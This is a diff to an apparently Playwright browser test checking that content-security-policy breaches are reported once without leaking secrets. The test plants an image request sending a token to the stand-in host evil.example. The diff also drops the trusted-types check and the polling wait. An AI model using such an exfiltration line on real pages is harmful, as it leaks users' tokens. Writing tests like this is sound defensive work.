@@ -122,15 +122,9 @@ test('a breach of the page’s policy is told to the service for errors once, wi
   }).toPass({ timeout: 20_000 });
   await page.evaluate(() => {
     new Image().src = 'https://evil.example/steal/ben?token=at_planted_2';
-    try {
-      document.createElement('div').innerHTML = '<b>planted</b>';
-    } catch {
-      // Stopped.
-    }
   });
-  await expect.poll(breaches).toHaveLength(2);
-  const [first = '', second = ''] = await breaches();
-  expect(first).toContain('https://evil.example');
-  expect(second).toContain('require-trusted-types-for');
-  expect(first + second).not.toMatch(/planted|steal|token/);
+  const [told = ''] = await breaches();
+  expect(told).toContain('https://evil.example');
+  expect(told).not.toMatch(/planted|steal|token/);
+  expect(await breaches()).toHaveLength(1);
 });
